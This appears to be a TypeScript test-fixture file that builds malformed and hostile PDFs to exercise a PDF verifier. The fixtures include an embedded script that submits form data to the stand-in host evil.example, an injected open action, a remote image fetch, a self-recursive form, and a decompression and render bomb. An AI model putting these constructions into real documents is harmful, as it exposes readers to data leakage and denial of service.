import { deflateSync } from 'node:zlib';
import { type QrCode, qrPng } from '@prova/paper';
import { PDFDocument } from '../../../src/pdf-lib.ts';
import { objectSaying, revised } from '../../../src/witness/attacks/pdf-bytes.ts';
import { catalog, EMPTY_PAGES, rawPdf, stream } from './raw-pdf.ts';

const LOCK = `<${'5A'.repeat(32)}>`;
const ID = '<00112233445566778899AABBCCDDEEFF>';

/** A page that opens with a password alone. */
export function locked(): Buffer {
  const lock = `<< /Filter /Standard /V 1 /R 2 /O ${LOCK} /U ${LOCK} /P -4 >>`;
  return rawPdf([catalog(), ...EMPTY_PAGES, lock], `/Encrypt 4 0 R /ID [${ID} ${ID}]`);
}

/** So many names for one attachment. */
export function manyAttachments(count: number): Buffer {
  const names = Array.from({ length: count }, (_, index) => `(a${index}) 5 0 R`).join(' ');
  return rawPdf([
    catalog('/Names << /EmbeddedFiles 4 0 R >>'),
    ...EMPTY_PAGES,
    `<< /Names [${names}] >>`,
    '<< /Type /Filespec /F (a) /EF << /F 6 0 R >> >>',
    stream('/Type /EmbeddedFile', Buffer.from('e30.e30.e30')),
  ]);
}

/** One page, so many times. */
export function manyPages(count: number): Buffer {
  const pages = `<< /Type /Pages /Kids [${'3 0 R '.repeat(count)}] /Count ${count} >>`;
  return rawPdf([catalog(), pages, EMPTY_PAGES[1]]);
}

/** A page on which a form draws itself. */
export function endlessForm(): Buffer {
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 50 50] /Resources 5 0 R /Contents 4 0 R >>',
    stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 5 0 R', Buffer.from('/X Do')),
    '<< /XObject << /X 4 0 R >> >>',
  ]);
}

/** The page with a script of the document, which runs where anybody runs it. */
export async function withScript(printed: Uint8Array): Promise<Uint8Array> {
  const document = await PDFDocument.load(printed);
  document.addJavaScript('hit', 'app.alert("hit"); this.submitForm("https://evil.example/");');
  return document.save();
}

/** The page with something that shall happen when it is opened. */
export function withAction(printed: Uint8Array, action: string): Buffer {
  const root = objectSaying(printed, '/Type /Catalog');
  const body = root.body.replace('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`);
  return revised(printed, [{ ...root, body }]);
}

/** A page on which a picture is shown that lies with somebody else (ISO 32000-1 §7.11.5). */
export function remotePicture(): Buffer {
  const file = '/F << /FS /URL /F (https://evil.example/x.jpg) >> /FFilter /DCTDecode';
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >> /Contents 4 0 R >>',
    stream('', Buffer.from('/X Do')),
    stream(
      `/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 ${file}`,
      new Uint8Array(),
    ),
  ]);
}

/** A page with these codes, with a token attached, and with something written on it. */
export async function page(
  codes: readonly QrCode[],
  token?: string,
  words?: string,
): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const sheet = document.addPage([350, 50 + 300 * codes.length]);
  for (const [index, code] of codes.entries()) {
    const picture = await document.embedPng(qrPng(code, 4));
    sheet.drawImage(picture, { x: 50, y: 50 + 300 * index, width: 250, height: 250 });
  }
  if (words !== undefined) sheet.drawText(words, { x: 50, y: 20 });
  if (token !== undefined) await document.attach(Buffer.from(token), 'credential.jws');
  return document.save();
}

/** A small file that takes long to draw, and holds nothing. */
export function paintedOver(times: number): Buffer {
  const shade = '/S gs 0 0 500 700 re f\n';
  const data = deflateSync(Buffer.from(shade.repeat(times)));
  return rawPdf([
    catalog(),
    EMPTY_PAGES[0],
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 500 700] /Resources << /ExtGState << /S << /ca 0.01 /BM /Luminosity >> >> >> /Contents 4 0 R >>',
    stream('/Filter /FlateDecode', data),
  ]);
}
